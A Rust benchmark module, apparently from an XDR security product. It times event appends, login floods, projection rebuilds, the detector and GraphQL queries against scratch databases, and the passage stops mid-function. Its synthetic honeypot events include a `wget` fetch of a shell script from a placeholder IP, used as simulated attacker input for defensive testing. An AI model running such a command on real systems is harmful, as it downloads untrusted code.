//! `mini-xdr bench …`: performance measured against a baseline in the same run, in a scratch
//! database that is dropped afterwards. Numbers go to docs/BENCHMARKS.md.

use anyhow::Context;
use serde_json::json;
use sqlx::{Connection, Executor, PgConnection};
use std::process::ExitCode;
use std::time::Instant;
use uuid::Uuid;
use xdr_commands::{db, EventStore, NewEvent};
use xdr_domain::ids::OrgId;

use crate::cli::{
    BenchAppendArgs, BenchAuthArgs, BenchDetectArgs, BenchGraphqlArgs, BenchRebuildArgs, ModelsVerifyArgs,
};
use crate::config::Settings;

/// A fresh database for one benchmark, dropped on the way out.
pub(crate) struct ScratchDb {
    admin: sqlx::postgres::PgConnectOptions,
    name: String,
    pub(crate) options: sqlx::postgres::PgConnectOptions,
}

impl ScratchDb {
    pub(crate) async fn create(settings: &Settings) -> anyhow::Result<ScratchDb> {
        let admin = crate::database::owner_options(settings)?;
        let name = format!("xdr_bench_{}", Uuid::new_v4().simple());
        let mut conn = PgConnection::connect_with(&admin).await.context("Failed to connect for the benchmark")?;
        conn.execute(format!(r#"CREATE DATABASE "{name}""#).as_str())
            .await
            .context("Failed to create the scratch database (the owner's login, XDR_MIGRATE_DATABASE_URL or DATABASE_URL, needs CREATEDB)")?;
        let options = admin.clone().database(&name);
        db::migrate(&options).await?;
        Ok(ScratchDb { admin, name, options })
    }

    /// The scratch database's URL, for child processes: `base` with its database replaced.
    pub(crate) fn url(&self, base: &str) -> String {
        let (main, query) = base.split_once('?').map_or((base, None), |(m, q)| (m, Some(q)));
        let after_scheme = main.find("://").map_or(0, |i| i + 3);
        let server = match main[after_scheme..].find('/') {
            Some(i) => &main[..after_scheme + i],
            None => main,
        };
        match query {
            Some(q) => format!("{server}/{}?{q}", self.name),
            None => format!("{server}/{}", self.name),
        }
    }

    pub(crate) async fn drop_db(self) -> anyhow::Result<()> {
        let mut conn = PgConnection::connect_with(&self.admin).await?;
        conn.execute(format!(r#"DROP DATABASE "{}" WITH (FORCE)"#, self.name).as_str()).await?;
        Ok(())
    }
}

/// A Cowrie-like telemetry payload of about 360 bytes, varied per index.
pub(crate) fn telemetry_payload(i: usize) -> serde_json::Value {
    json!({
        "timestamp": format!("2026-11-26T21:{:02}:{:02}.{:06}Z", (i / 60) % 60, i % 60, i % 1_000_000),
        "source_type": "cowrie",
        "event_type": "cowrie.login.failed",
        "src_ip": format!("10.{}.{}.{}", (i >> 16) & 255, (i >> 8) & 255, i & 255),
        "src_port": 40000 + (i % 20000),
        "dst_ip": "172.16.0.10",
        "dst_port": 2222,
        "protocol": "ssh",
        "username": "root",
        "password": format!("pass{}", i % 997),
        "session_id": format!("{:012x}", i),
        "hostname": "cowrie-sensor-01",
        "message": format!("login attempt [root/pass{}] failed", i % 997),
    })
}

pub async fn append(settings: &Settings, args: BenchAppendArgs) -> anyhow::Result<ExitCode> {
    let scratch = ScratchDb::create(settings).await?;
    let result = run_append(&scratch, &args).await;
    scratch.drop_db().await?;
    let (append_rate, copy_rate, payload_bytes) = result?;
    println!("events: {}  batch: {}  mean payload: {payload_bytes} bytes", args.events, args.batch);
    println!("append_batch: {append_rate:>10.0} events/s");
    println!("raw COPY:     {copy_rate:>10.0} rows/s");
    println!("ratio:        {:>10.2} (target >= 0.60)", append_rate / copy_rate);
    Ok(ExitCode::SUCCESS)
}

async fn run_append(scratch: &ScratchDb, args: &BenchAppendArgs) -> anyhow::Result<(f64, f64, usize)> {
    let org = OrgId(Uuid::new_v4());
    let events: Vec<NewEvent> = (0..args.events)
        .map(|i| NewEvent {
            event_id: xdr_domain::telemetry::telemetry_event_id(
                chrono::DateTime::from_timestamp(1_764_190_800 + (i / 100) as i64, 0).unwrap_or_default(),
                format!("bench/{i}").as_bytes(),
            ),
            stream_id: format!("telemetry-sensor-{}", i % 4),
            event_type: "SecurityEventObserved".into(),
            schema_version: 1,
            payload: telemetry_payload(i),
            metadata: json!({"actor": "ingest-key:bench"}),
        })
        .collect();
    let payload_bytes = events.iter().map(|e| e.payload.to_string().len()).sum::<usize>() / events.len().max(1);

    // Baseline: the same rows as COPY text into a plain table with the same primary key.
    let mut owner = PgConnection::connect_with(&scratch.options).await?;
    owner
        .execute(
            "CREATE TABLE bench_copy_baseline (org_id uuid, org_seq bigint, stream_id text, stream_version bigint, \
             event_id uuid, event_type text, schema_version int, payload jsonb, metadata jsonb, \
             recorded_at timestamptz, hash bytea, PRIMARY KEY (org_id, org_seq))",
        )
        .await?;
    let chunks: Vec<String> = events
        .chunks(args.batch)
        .enumerate()
        .map(|(c, chunk)| {
            let mut buf = String::new();
            for (i, e) in chunk.iter().enumerate() {
                let seq = c * args.batch + i + 1;
                buf.push_str(&format!(
                    "{}\t{seq}\t{}\t{seq}\t{}\t{}\t1\t{}\t{}\t2026-11-26 21:00:00+00\t\\\\x{}\n",
                    org.0,
                    e.stream_id,
                    e.event_id,
                    e.event_type,
                    e.payload.to_string().replace('\\', "\\\\"),
                    e.metadata,
                    "00".repeat(32)
                ));
            }
            buf
        })
        .collect();
    let started = Instant::now();
    for chunk in chunks {
        let mut tx = owner.begin().await?;
        let mut copy = tx
            .copy_in_raw(
                "COPY bench_copy_baseline (org_id, org_seq, stream_id, stream_version, event_id, event_type, \
                 schema_version, payload, metadata, recorded_at, hash) FROM STDIN",
            )
            .await?;
        copy.send(chunk.into_bytes()).await?;
        copy.finish().await?;
        tx.commit().await?;
    }
    let copy_rate = args.events as f64 / started.elapsed().as_secs_f64();

    let pool = db::set_role_pool(&scratch.options, db::RuntimeRole::Worker, 2).await?;
    let store = EventStore::new(pool.clone());
    let started = Instant::now();
    let mut remaining = events;
    while !remaining.is_empty() {
        let rest = remaining.split_off(remaining.len().min(args.batch));
        store.append_batch(org, remaining).await?;
        remaining = rest;
    }
    let append_rate = args.events as f64 / started.elapsed().as_secs_f64();
    pool.close().await;
    Ok((append_rate, copy_rate, payload_bytes))
}

/// p50 and p99 of a set of latencies, in milliseconds.
pub(crate) fn percentiles(mut samples: Vec<std::time::Duration>) -> (f64, f64) {
    samples.sort();
    let at = |q: f64| {
        let i = ((samples.len() as f64 - 1.0) * q).round() as usize;
        samples.get(i).map_or(0.0, |d| d.as_secs_f64() * 1000.0)
    };
    (at(0.50), at(0.99))
}

/// Run `total` requests from `concurrency` clients; returns each request's latency.
async fn load<F, Fut>(total: usize, concurrency: usize, request: F) -> anyhow::Result<Vec<std::time::Duration>>
where
    F: Fn() -> Fut + Clone + Send + 'static,
    Fut: std::future::Future<Output = anyhow::Result<()>> + Send,
{
    let next = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let workers: Vec<_> = (0..concurrency)
        .map(|_| {
            let (next, request) = (next.clone(), request.clone());
            tokio::spawn(async move {
                let mut latencies = Vec::new();
                while next.fetch_add(1, std::sync::atomic::Ordering::Relaxed) < total {
                    let started = Instant::now();
                    request().await?;
                    latencies.push(started.elapsed());
                }
                anyhow::Ok(latencies)
            })
        })
        .collect();
    let mut all = Vec::with_capacity(total);
    for w in workers {
        all.extend(w.await??);
    }
    Ok(all)
}

/// The real identity handlers over a scratch database, with a throwaway signing key.
pub(crate) fn bench_identity(pool: &sqlx::PgPool) -> anyhow::Result<xdr_commands::auth::IdentityService> {
    use xdr_commands::auth::{Clock, IdentityService, PasswordHasher, TokenService};
    Ok(IdentityService::new(
        EventStore::new(pool.clone()),
        PasswordHasher::owasp()?,
        TokenService::new(&secrecy::SecretString::from(Uuid::new_v4().simple().to_string().repeat(2))),
        Clock::system(),
    ))
}

pub async fn auth(settings: &Settings, args: BenchAuthArgs) -> anyhow::Result<ExitCode> {
    let scratch = ScratchDb::create(settings).await?;
    let result = run_auth(&scratch, &args).await;
    scratch.drop_db().await?;
    result?;
    Ok(ExitCode::SUCCESS)
}

async fn run_auth(scratch: &ScratchDb, args: &BenchAuthArgs) -> anyhow::Result<()> {
    let pool = db::set_role_pool(&scratch.options, db::RuntimeRole::Api, 20).await?;
    let identity = bench_identity(&pool)?;
    let config =
        xdr_graphql::ServerConfig { bind: "127.0.0.1:0".into(), login_rate_per_minute: u32::MAX, ..Default::default() };
    let app = xdr_graphql::Application::build(config, identity, pool.clone())?;
    let base = format!("http://127.0.0.1:{}", app.port());
    let server = tokio::spawn(app.run_until_stopped());
    let client = reqwest::Client::new();
    let password = "SecurePass123!@#";
    let reg: serde_json::Value = client
        .post(format!("{base}/api/auth/register"))
        .json(&json!({"organization_name": "Bench Corp", "admin_email": "bench@bench.test",
                      "admin_password": password, "admin_name": "Bench"}))
        .send()
        .await?
        .error_for_status()?
        .json()
        .await?;
    let token = reg["access_token"].as_str().context("no access token")?.to_owned();

    let me = me_request(&client, &base, &token, "bench-corp");
    let login = {
        let (client, url) = (client.clone(), format!("{base}/api/auth/login"));
        move || {
            let (client, url) = (client.clone(), url.clone());
            async move {
                client
                    .post(url)
                    .json(&json!({"email": "bench@bench.test", "password": password}))
                    .send()
                    .await?
                    .error_for_status()?;
                Ok(())
            }
        }
    };

    load(50, 4, me.clone()).await?; // warm-up
    let (me_p50, me_p99) = percentiles(load(args.me_requests, 8, me.clone()).await?);

    let started = Instant::now();
    let flood = tokio::spawn(load(args.logins, args.concurrency, login.clone()));
    let me_under_flood = load(args.me_requests, 8, me).await?;
    let logins = flood.await??;
    let flood_secs = started.elapsed().as_secs_f64();
    let (login_p50, login_p99) = percentiles(logins);
    let (flood_p50, flood_p99) = percentiles(me_under_flood);
    let history = me_versus_history(&pool, &client, &base, args).await?;
    server.abort();

    println!(
        "argon2id m=19456 KiB t=2 p=1; {} hashing permits",
        std::thread::available_parallelism().map_or(2, |n| n.get()).saturating_sub(1).max(1)
    );
    println!(
        "login: {} at concurrency {}: {:.1}/s  p50 {login_p50:.1} ms  p99 {login_p99:.1} ms",
        args.logins,
        args.concurrency,
        args.logins as f64 / flood_secs
    );
    println!("GraphQL me alone:        p50 {me_p50:.2} ms  p99 {me_p99:.2} ms");
    println!("GraphQL me during flood: p50 {flood_p50:.2} ms  p99 {flood_p99:.2} ms");
    println!("p99 ratio flood/alone:   {:.2}", flood_p99 / me_p99.max(0.001));
    println!("GraphQL me, fresh user:  p50 {:.2} ms  p99 {:.2} ms", history.fresh.0, history.fresh.1);
    println!(
        "GraphQL me, user with {} failed logins: p50 {:.2} ms  p99 {:.2} ms  (first request, folding \
         the whole stream once: {:.1} ms; seeded in {:.1} s)",
        args.history_failures, history.long.0, history.long.1, history.first_ms, history.seed_secs
    );
    println!("p99 ratio long history/fresh: {:.2}", history.long.1 / history.fresh.1.max(0.001));
    Ok(())
}

/// A GraphQL `me` request as `token`, checked to answer for the org `slug`.
fn me_request(
    client: &reqwest::Client,
    base: &str,
    token: &str,
    slug: &'static str,
) -> impl Fn() -> std::pin::Pin<Box<dyn std::future::Future<Output = anyhow::Result<()>> + Send>> + Clone + Send + 'static
{
    let (client, url, token) = (client.clone(), format!("{base}/graphql"), token.to_owned());
    move || {
        let (client, url, token) = (client.clone(), url.clone(), token.clone());
        Box::pin(async move {
            let body: serde_json::Value = client
                .post(url)
                .bearer_auth(token)
                .json(&json!({"query": "{ me { user { id email } organization { slug } } }"}))
                .send()
                .await?
                .json()
                .await?;
            anyhow::ensure!(body["data"]["me"]["organization"]["slug"] == slug, "me failed: {body}");
            Ok(())
        })
    }
}

struct HistoryPhase {
    /// (p50, p99) in ms.
    fresh: (f64, f64),
    long: (f64, f64),
    first_ms: f64,
    seed_secs: f64,
}

/// `me` for a user whose stream holds `history_failures` failed logins (appended with the
/// store's batch append, as a password-guessing flood would have left them) against a fresh
/// user, measured alternately in the same run.
async fn me_versus_history(
    pool: &sqlx::PgPool,
    client: &reqwest::Client,
    base: &str,
    args: &BenchAuthArgs,
) -> anyhow::Result<HistoryPhase> {
    use xdr_domain::identity::{LoginFailed, LoginFailureReason};
    let register = |org: &str, email: &str| {
        client.post(format!("{base}/api/auth/register")).json(&json!({"organization_name": org,
            "admin_email": email, "admin_password": "SecurePass123!@#", "admin_name": "Bench"}))
    };
    let fresh: serde_json::Value =
        register("Fresh Corp", "fresh@bench.test").send().await?.error_for_status()?.json().await?;
    let long: serde_json::Value =
        register("Long Corp", "long@bench.test").send().await?.error_for_status()?.json().await?;
    let token = |v: &serde_json::Value| v["access_token"].as_str().map(str::to_owned).context("no access token");
    let org = xdr_domain::ids::OrgId(long["organization"]["id"].as_str().context("org id")?.parse()?);
    let stream = format!("user-{}", long["user"]["id"].as_str().context("user id")?);

    let store = EventStore::new(pool.clone());
    let started = Instant::now();
    let at = chrono::Utc::now();
    let meta = xdr_domain::EventMetadata { actor: Some("anonymous".into()), ..Default::default() };
    let mut seeded = 0;
    while seeded < args.history_failures {
        let n = (args.history_failures - seeded).min(10_000);
        let batch = (0..n)
            .map(|_| {
                let failed = xdr_domain::Event::LoginFailed(LoginFailed {
                    at,
                    reason: LoginFailureReason::BadPassword,
                    consecutive_failures: 1,
                    locked_until: None,
                    device_hash: None,
                    device_failures: None,
                });
                xdr_commands::NewEvent::from_event(Uuid::now_v7(), stream.as_str(), &failed, &meta)
            })
            .collect();
        store.append_batch(org, batch).await?;
        seeded += n;
    }
    let seed_secs = started.elapsed().as_secs_f64();

    let me_fresh = me_request(client, base, &token(&fresh)?, "fresh-corp");
    let me_long = me_request(client, base, &token(&long)?, "long-corp");
    let first = Instant::now();
    me_long().await?;
    let first_ms = first.elapsed().as_secs_f64() * 1000.0;
    load(50, 4, me_fresh.clone()).await?;
    load(50, 4, me_long.clone()).await?;
    // Alternate rounds so drift in the machine's load falls on both sides alike.
    let (mut fresh_samples, mut long_samples) = (Vec::new(), Vec::new());
    let round = (args.me_requests / 4).max(1);
    for _ in 0..4 {
        fresh_samples.extend(load(round, 8, me_fresh.clone()).await?);
        long_samples.extend(load(round, 8, me_long.clone()).await?);
    }
    Ok(HistoryPhase { fresh: percentiles(fresh_samples), long: percentiles(long_samples), first_ms, seed_secs })
}

/// `mini-xdr bench rebuild`: seed a log, then time a raw sequential scan of it (read and
/// decode every row, the floor of any replay), `rebuild` of every read model, the live
/// projector's catch-up as the app role, and the digest.
pub async fn rebuild(settings: &Settings, args: BenchRebuildArgs) -> anyhow::Result<ExitCode> {
    let scratch = ScratchDb::create(settings).await?;
    let result = run_rebuild(&scratch, &args).await;
    scratch.drop_db().await?;
    let r = result?;
    let rate = |secs: f64| r.events as f64 / secs;
    println!("events: {} over {} orgs", r.events, args.orgs);
    println!("raw scan:            {:>10.0} events/s", rate(r.scan));
    println!("rebuild (owner):     {:>10.0} events/s  ({:.2} x raw scan)", rate(r.rebuild), r.scan / r.rebuild);
    println!("catch-up (xdr_worker):{:>10.0} events/s  ({:.2} x raw scan)", rate(r.catch_up), r.scan / r.catch_up);
    println!("digest:              {:>10.0} rows/s", rate(r.digest));
    Ok(ExitCode::SUCCESS)
}

struct RebuildTimes {
    events: u64,
    scan: f64,
    rebuild: f64,
    catch_up: f64,
    digest: f64,
}

async fn run_rebuild(scratch: &ScratchDb, args: &BenchRebuildArgs) -> anyhow::Result<RebuildTimes> {
    use futures::TryStreamExt;
    let app = db::set_role_pool(&scratch.options, db::RuntimeRole::Worker, 4).await?;
    let owner = db::owner_pool(&scratch.options, 4).await?;
    let store = EventStore::new(app.clone());
    let orgs: Vec<OrgId> = (0..args.orgs.max(1)).map(|_| OrgId(Uuid::new_v4())).collect();
    eprintln!("seeding {} events…", args.events);
    let batch = 5_000;
    for (c, chunk_start) in (0..args.events).step_by(batch).enumerate() {
        let org = orgs[c % orgs.len()];
        let events = (chunk_start..(chunk_start + batch).min(args.events))
            .map(|i| NewEvent {
                event_id: xdr_domain::telemetry::telemetry_event_id(
                    chrono::DateTime::from_timestamp(1_764_190_800 + (i / 100) as i64, 0).unwrap_or_default(),
                    format!("bench/{i}").as_bytes(),
                ),
                stream_id: format!("telemetry-sensor-{}", i % 4),
                event_type: "SecurityEventObserved".into(),
                schema_version: 1,
                payload: telemetry_payload(i),
                metadata: json!({"actor": "ingest-key:bench"}),
            })
            .collect();
        store.append_batch(org, events).await?;
    }
    sqlx::query("VACUUM ANALYZE event_log").execute(&owner).await?;
    let events = xdr_projections::rebuild::log_length(&owner).await?;

    // Baseline: read and decode every row in log order, nothing else.
    let started = Instant::now();
    let sql = format!("SELECT {} FROM event_log ORDER BY org_id, org_seq", xdr_commands::store::EVENT_COLUMNS);
    let mut rows = sqlx::query(&sql).fetch(&owner);
    let mut scanned = 0u64;
    while let Some(row) = rows.try_next().await? {
        let e = xdr_commands::store::row_to_event(&row)?;
        scanned += e.org_seq.signum() as u64;
    }
    drop(rows);
    let scan = started.elapsed().as_secs_f64();
    anyhow::ensure!(scanned == events, "scan read {scanned} of {events} events");

    let report = xdr_projections::rebuild(&owner, None, |_| {}).await?;
    anyhow::ensure!(report.events == events, "rebuild applied {} of {events} events", report.events);
    let rebuild = report.elapsed.as_secs_f64();

    xdr_projections::rebuild::clear(&owner, xdr_projections::models::ALL).await?;
    let started = Instant::now();
    xdr_projections::catch_up_once(&app).await?;
    let catch_up = started.elapsed().as_secs_f64();

    let started = Instant::now();
    let digest = xdr_projections::digest(&app).await?;
    let digest_secs = started.elapsed().as_secs_f64();
    anyhow::ensure!(digest == report.digest, "live catch-up and rebuild disagree");
    app.close().await;
    owner.close().await;
    Ok(RebuildTimes { events, scan, rebuild, catch_up, digest: digest_secs })
}

/// One synthetic security event of source `s` at event time `t_micros`. Sources behave by
/// `s % 10`: brute forcers (0–3), scanners (4–5), logged-in users running commands (6–8),
/// and a mix (9), so every rule path and the incident bookkeeping are exercised.
fn synthetic_event(i: usize, s: usize, t_micros: i64) -> serde_json::Value {
    let ts = chrono::DateTime::from_timestamp_micros(t_micros).unwrap_or_default().to_rfc3339();
    let ip = format!("10.{}.{}.{}", (s >> 16) & 255, (s >> 8) & 255, s & 255);
    let (event_type, command) = match (s % 10, i % 7) {
        (0..=3, _) => ("cowrie.login.failed", None),
        (4..=5, _) => ("cowrie.session.connect", None),
        (_, 0) => ("cowrie.login.success", None),
        (_, 1) => ("cowrie.command.input", Some("uname -a")),
        (_, 2) => ("cowrie.command.input", Some("wget http://198.51.100.7/x.sh")),
        (_, 3) => ("cowrie.login.failed", None),
        (_, 4) => ("cowrie.command.input", Some("ls -la /tmp")),
        _ => ("cowrie.client.version", None),
    };
    let username = ["root", "admin", "ubuntu", "pi"][i % 4];
    json!({
        "timestamp": ts, "source_type": "cowrie", "event_type": event_type, "src_ip": ip,
        "src_port": 40000 + (i % 20000), "dst_ip": "172.16.0.10", "dst_port": 2222, "protocol": "ssh",
        "username": username, "password": format!("pass{}", i % 97),
        "command": command, "session_id": format!("{:012x}", i / 5), "hostname": "cowrie-sensor-01",
        "raw": {},
    })
}

/// `mini-xdr bench detect`: the detector core alone (JSON decode → windows → features →
/// rules → commands) on one thread; events are generated outside the timed section.
pub fn detect(args: BenchDetectArgs) -> anyhow::Result<ExitCode> {
    use xdr_commands::StoredEvent;
    use xdr_inference::Detector;
    let org = Uuid::new_v4();
    let sources = args.sources.max(1);
    // One hour of event time in total, interleaved across sources.
    let step = 3_600_000_000 / args.events.max(1) as i64;
    let base = 1_795_000_000_000_000i64;
    let mut detector = Detector::default();
    let (mut busy, mut decode, mut commands) = (std::time::Duration::ZERO, std::time::Duration::ZERO, 0usize);
    let mut latencies = Vec::with_capacity(args.events);
    const CHUNK: usize = 20_000;
    let mut i = 0;
    while i < args.events {
        let end = (i + CHUNK).min(args.events);
        let batch: Vec<StoredEvent> = (i..end)
            .map(|k| StoredEvent {
                org_id: org,
                org_seq: k as i64 + 1,
                stream_id: "telemetry-cowrie".into(),
                stream_version: k as i64 + 1,
                event_id: Uuid::from_u128(k as u128 + 1),
                event_type: "SecurityEventObserved".into(),
                schema_version: 1,
                payload: synthetic_event(k, (k.wrapping_mul(2_654_435_761)) % sources, base + k as i64 * step),
                metadata: json!({}),
                recorded_at: chrono::DateTime::from_timestamp_micros(base).unwrap_or_default(),
                hash: Vec::new(),
            })
            .collect();
        let started = Instant::now();
        for e in &batch {
            let t = Instant::now();
            commands += detector.process(e).len();
            latencies.push(t.elapsed());
        }
        busy += started.elapsed();
        // The payload decode alone, to show where the time goes.
        let started = Instant::now();
        for e in &batch {
            let decoded: Result<xdr_domain::telemetry::SecurityEvent, _> = serde::Deserialize::deserialize(&e.payload);
            std::hint::black_box(decoded.is_ok());
        }
        decode += started.elapsed();
        i = end;
    }
    let stats = detector.stats();
    let (p50, p99) = percentiles(latencies);
    println!("events: {}  sources: {}  commands: {commands}  rule hits: {}", args.events, sources, stats.hits);
    println!(
        "detector core: {:>10.0} events/s on one core (target >= 50 000)",
        args.events as f64 / busy.as_secs_f64()
    );
    println!("per event:     p50 {:.4} ms  p99 {:.4} ms", p50, p99);
    println!("of which JSON payload decode: {:.0}%", 100.0 * decode.as_secs_f64() / busy.as_secs_f64());
    Ok(ExitCode::SUCCESS)
}

/// Classifier latency with tract on the golden batch: one window, and 64 windows per call.
/// The onnxruntime side of the comparison is `inference/train/bench_ort.py` (same model,
/// same golden batch); docs/BENCHMARKS.md records both.
pub async fn inference(args: ModelsVerifyArgs) -> anyhow::Result<ExitCode> {
    use xdr_inference::features::FeatureVector;
    use xdr_inference::model::{verify::measure, Classifier};
    tokio::task::spawn_blocking(move || -> anyhow::Result<ExitCode> {
        let classifier = Classifier::load(&args.dir)?;
        let golden = classifier.golden()?;
        let vectors: Vec<FeatureVector> = golden
            .inputs
            .iter()
            .map(|row| FeatureVector(std::array::from_fn(|i| row.get(i).copied().unwrap_or(0.0) as f32)))
            .collect();
        // The golden batch repeated to 64 rows, exactly as bench_ort.py builds it.
        let batch: Vec<FeatureVector> = vectors.iter().cycle().take(64).copied().collect();
        for (name, input, iterations) in
            [("single", &batch[..1], args.iterations), ("batch64", &batch[..], args.iterations)]
        {
            let l = measure(&classifier, input, iterations)?;
            println!(
                "tract {name:<8} p50 {:>8.2} µs  p99 {:>8.2} µs  per window p50 {:>7.3} µs  ({} runs)",
                l.p50.as_secs_f64() * 1e6,
                l.p99.as_secs_f64() * 1e6,
                l.p50.as_secs_f64() * 1e6 / input.len() as f64,
                l.iterations
            );
        }
        Ok(ExitCode::SUCCESS)
    })
    .await?
}

/// `mini-xdr bench graphql`: seed read models (one measured org plus noise orgs), then the
/// `incidents(first: 50)` page through GraphQL and the same SQL page run directly, same
/// concurrency, same run; then the GraphQL page again beside another tenant's client that
/// sends the most expensive queries the cost limits allow, one after another (other tenants'
/// p99 must stay within 2× of alone).
pub async fn graphql(settings: &Settings, args: BenchGraphqlArgs) -> anyhow::Result<ExitCode> {
    let scratch = ScratchDb::create(settings).await?;
    let result = run_graphql(&scratch, &args).await;
    scratch.drop_db().await?;
    result?;
    Ok(ExitCode::SUCCESS)
}

async fn run_graphql(scratch: &ScratchDb, args: &BenchGraphqlArgs) -> anyhow::Result<()> {
    let owner = db::owner_pool(&scratch.options, 4).await?;
    let pool = db::set_role_pool(&scratch.options, db::RuntimeRole::Api, 40).await?;
    let identity = bench_identity(&pool)?;
    let reg = identity
        .register("Bench Corp", "bench@bench.test", "SecurePass123!@#".into(), "Bench", &Default::default())
        .await
        .map_err(|e| anyhow::anyhow!("{e}"))?;
    let org = reg.organization.id;
    // The tenant whose client sends the most expensive queries allowed.
    let heavy = identity
        .register("Heavy Corp", "heavy@bench.test", "SecurePass123!@#".into(), "Heavy", &Default::default())
        .await
        .map_err(|e| anyhow::anyhow!("{e}"))?;
    eprintln!("seeding {} events and {} incidents (plus 3 noise orgs and the heavy one)…", args.events, args.incidents);
    for (target, events, incidents) in [(org, args.events, args.incidents)]
        .into_iter()
        .chain((0..3).map(|_| (Uuid::new_v4(), args.events / 10, args.incidents / 10)))
        .chain([(heavy.organization.id, args.events / 10, args.incidents / 10)])
    {
        sqlx::query(
            "INSERT INTO rm_security_events (org_id, org_seq, event_id, \"timestamp\", recorded_at, source_type, event_type, \
               src_ip, src_port, dst_ip, dst_port, protocol, username, session_id, hostname, message, raw) \
             SELECT $1, g, gen_random_uuid(), now() - (g || ' seconds')::interval, now(), 'cowrie', 'cowrie.login.failed', \
               ('10.' || (g % 250) || '.' || (g / 250 % 250) || '.1')::inet, 40000 + g % 20000, '172.16.0.10'::inet, 2222, \
               'ssh', 'root', md5(g::text), 'sensor-1', 'login attempt failed', jsonb_build_object('g', g) \
             FROM generate_series(1, $2) g",
        )
        .bind(target)
        .bind(events)
        .execute(&owner)
        .await?;
        sqlx::query(
            "INSERT INTO rm_incidents (org_id, incident_id, src_ip, status, severity, severity_rank, category, risk_score, \
               confidence, first_seen, last_seen, event_count, evidence, reason, rule_ids, techniques, top_features, \
               opened_at, updated_at, last_seq) \
             SELECT $1, gen_random_uuid(), '10.' || (g % 250) || '.' || (g / 250 % 250) || '.1', 'open', 'high', 3, \
               'brute_force', 0.8, 0.9, now() - (g || ' minutes')::interval, now() - (g || ' seconds')::interval, 12, \
               ARRAY[g, g + 1]::bigint[], 'ssh_brute_force: 12 failed logins in 60 s', ARRAY['ssh_brute_force'], \
               ARRAY['T1110.001'], '[]'::jsonb, now(), now(), g \
             FROM generate_series(1, $2) g",
        )
        .bind(target)
        .bind(incidents)
        .execute(&owner)
        .await?;
        // Five timeline entries per incident, so the nested resolvers have rows to return.
        sqlx::query(
            "INSERT INTO rm_incident_timeline (org_id, org_seq, incident_id, at, kind, actor, detail) \
             SELECT $1, row_number() OVER (), incident_id, last_seen, 'evidence', NULL, jsonb_build_object('n', k) \
             FROM rm_incidents, generate_series(1, 5) k WHERE org_id = $1",
        )
        .bind(target)
        .execute(&owner)
        .await?;
    }
    sqlx::query("ANALYZE rm_incident_timeline").execute(&owner).await?;
    sqlx::query("ANALYZE rm_incidents").execute(&owner).await?;
    sqlx::query("ANALYZE rm_security_events").execute(&owner).await?;

    let config = xdr_graphql::ServerConfig { bind: "127.0.0.1:0".into(), ..Default::default() };
    let app = xdr_graphql::Application::build(config, identity, pool.clone())?;
    let url = format!("http://127.0.0.1:{}/graphql", app.port());
    let server = tokio::spawn(app.run_until_stopped());
    let client = reqwest::Client::builder().pool_max_idle_per_host(args.concurrency).build()?;
    let token = reg.tokens.access_token.clone();
    let query = "{ incidents(first: 50) { edges { cursor node { id srcIp status severity category riskScore \
                 lastSeen eventCount attackTechniques } } pageInfo { hasNextPage endCursor } } }";
    let gql = {
        let (client, url, token) = (client.clone(), url.clone(), token.clone());
        move || {
            let (client, url, token) = (client.clone(), url.clone(), token.clone());
            async move {
                let body: serde_json::Value =
                    client.post(url).bearer_auth(token).json(&json!({ "query": query })).send().await?.json().await?;
                let n = body["data"]["incidents"]["edges"].as_array().map_or(0, Vec::len);
                anyhow::ensure!(n == 50, "incidents page had {n} edges: {body}");
                Ok(())
            }
        }
    };
    let org_id = OrgId(org);
    let sql = {
        let pool = pool.clone();
        move || {
            let pool = pool.clone();
            async move {
                let mut tx = xdr_projections::begin_org_tx(&pool, org_id).await?;
                let rows = sqlx::query(
                    "SELECT incident_id, src_ip, status, severity, category, risk_score, confidence, first_seen, \
                       last_seen, event_count, evidence, reason, rule_ids, techniques, top_features, model \
                     FROM rm_incidents WHERE org_id = $1 ORDER BY last_seen DESC, incident_id DESC LIMIT 51",
                )
                .bind(org_id.0)
                .fetch_all(&mut *tx)
                .await?;
                tx.commit().await?;
                anyhow::ensure!(rows.len() == 51);
                Ok(())
            }
        }
    };
    load(200, 8, gql.clone()).await?;
    load(200, 8, sql.clone()).await?;
    let started = Instant::now();
    let raw = load(args.requests, args.concurrency, sql).await?;
    let raw_rate = args.requests as f64 / started.elapsed().as_secs_f64();
    let started = Instant::now();
    let api = load(args.requests, args.concurrency, gql.clone()).await?;
    let api_rate = args.requests as f64 / started.elapsed().as_secs_f64();
    let mut contended = Vec::new();
    for (shape, query) in expensive_queries(&xdr_graphql::GraphqlLimits::default()) {
        let heavy_client =
            ExpensiveClient::start(client.clone(), url.clone(), heavy.tokens.access_token.clone(), query);
        let started = Instant::now();
        let beside = load(args.requests, args.concurrency, gql.clone()).await?;
        let rate = args.requests as f64 / started.elapsed().as_secs_f64();
        let (cost, sent, latencies) = heavy_client.stop().await?;
        contended.push((shape, cost, sent, percentiles(latencies), rate, percentiles(beside)));
    }
    server.abort();
    let (raw_p50, raw_p99) = percentiles(raw);
    let (api_p50, api_p99) = percentiles(api);
    println!(
        "seeded: {} events, {} incidents in the measured org (+3 noise orgs at 1/10)",
        args.events, args.incidents
    );
    println!("raw SQL page (RLS tx): {raw_rate:>8.0} req/s  p50 {raw_p50:.2} ms  p99 {raw_p99:.2} ms");
    println!("GraphQL incidents(50): {api_rate:>8.0} req/s  p50 {api_p50:.2} ms  p99 {api_p99:.2} ms");
    println!(
        "p99 ratio GraphQL/raw: {:.2} (target <= 3)   throughput target >= 5000 req/s",
        api_p99 / raw_p99.max(0.001)
    );
    for (shape, cost, sent, (heavy_p50, heavy_p99), rate, (p50, p99)) in contended {
        println!(
            "beside a {shape} client (cost {cost}, {sent} sent, p50 {heavy_p50:.1} ms p99 {heavy_p99:.1} ms): \
             incidents(50) {rate:>8.0} req/s  p50 {p50:.2} ms  p99 {p99:.2} ms  p99 ratio contended/alone {:.2} (target <= 2)",
            p99 / api_p99.max(0.001)
        );
    }
    Ok(())
}

/// The most expensive documents the limits let one client send, one per shape of cost: the
/// widest page (every field of 500 incidents: one big query) and the deepest fan-out (per
/// incident, three nested resolvers each with its own query), each filled up to `max_cost`.
fn expensive_queries(limits: &xdr_graphql::GraphqlLimits) -> Vec<(&'static str, String)> {
    let fields = "id srcIp status severity category riskScore confidence firstSeen lastSeen eventCount reason \
                  detectors attackTechniques topFeatures model evidenceSeqs";
    // Per item: edges + cursor + node + 16 fields.
    let wide = (limits.max_cost / 19).min(500);
